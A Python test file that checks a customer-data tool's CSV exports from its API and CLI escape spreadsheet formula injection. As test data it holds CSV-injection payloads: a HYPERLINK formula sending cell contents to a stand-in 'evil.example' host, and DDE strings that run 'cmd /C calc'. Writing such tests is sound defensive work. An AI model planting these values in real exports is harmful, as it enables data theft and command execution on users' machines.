"""CSV a person may open in a spreadsheet holds no cell that evaluates as a formula (OWASP CSV injection).

Hostile values are loaded as customers' names, city and tags through the normal ingest path, then
exported by the API (segment members) and the CLI (``--format csv`` of ``sql``, ``quarantine``,
``segments members``). Every text cell starting with ``= + - @``, a tab or a carriage return must
come out with a leading apostrophe; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from regulars import Workspace
from regulars.cli.main import app
from regulars.data.ingest.pipeline import ingest
from tests.api.server import start
from tests.api.shop import build_shop

HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/steal?d="&A1, "click")',
    "last_name": "=cmd|' /C calc'!A0",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tags": "-2+3+cmd|' /C calc'!A0",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    folder = tmp_path_factory.mktemp("csv-shop")
    built = build_shop(folder / "shop.duckdb", n_customers=12)
    hostile = folder / "hostile_customers.csv"
    with hostile.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["customer_id", "email", "phone", *HOSTILE])
        w.writerow(["C0001", "+alias@example.com", "+33 6 12 34 56 78", *HOSTILE.values()])
        w.writerow(["C0002", "plain@example.com", "", "\tTabbed", "\rReturned", "Lyon", "=1+1"])
    rejected = folder / "hostile_orders.csv"
    rejected.write_text('order_id,customer_id,ordered_at,total\nOX-1,C0001,"=HYPERLINK(""http://evil"")",10\n'
                        "OX-2,C0001,2024-01-01,-12.50\n", encoding="utf-8")
    with Workspace(built.path) as ws:
        ingest(ws, "customers", [hostile])
        ingest(ws, "orders", [rejected])
        from regulars.jobs.segments import refresh
        from regulars.segments.membership import create_segment

        create_segment(ws, "Everyone with orders", "orders >= 1")
        refresh(ws)
    return built.path


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_neutral(text: str, expect_hostile: bool = True) -> None:
    found = cells(text)
    bad = [c for c in found if c.startswith(DANGEROUS) and not _number(c)]
    assert not bad, f"cells a spreadsheet would evaluate: {bad[:5]}"
    if expect_hostile:
        assert any(c.startswith("'=") for c in found), "the hostile values were not exported at all"


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_api_segment_members_csv(shop):
    server = start(shop, warm_profiles=False, warm_reports=False)
    try:
        for role in ("analyst", "admin", "viewer"):
            with server.client(role) as c:
                r = c.get("/api/segments/everyone_with_orders/members", params={"format": "csv"})
            assert r.status_code == 200
            assert_neutral(r.text, expect_hostile=role != "viewer")
            if role != "viewer":
                assert "'+alias@example.com" in r.text and "'+33612345678" in r.text
    finally:
        server.stop()


def test_cli_csv_outputs(shop):
    runner = CliRunner()
    for args in (["sql", "SELECT customer_id, email, phone, first_name, last_name, city, tags FROM customers"],
                 ["quarantine"],
                 ["segments", "members", "everyone_with_orders"]):
        result = runner.invoke(app, [*args, "--format", "csv", "--workspace", str(shop)])
        assert result.exit_code == 0, result.output
        assert_neutral(result.output, expect_hostile=args[0] == "sql")
    refund = runner.invoke(app, ["sql", "SELECT total FROM orders WHERE order_id = 'OX-2'", "--format", "csv",
                                 "--workspace", str(shop)])
    assert float(refund.output.splitlines()[1]) == -12.5  # a negative amount is a number, left as it is (no quote)
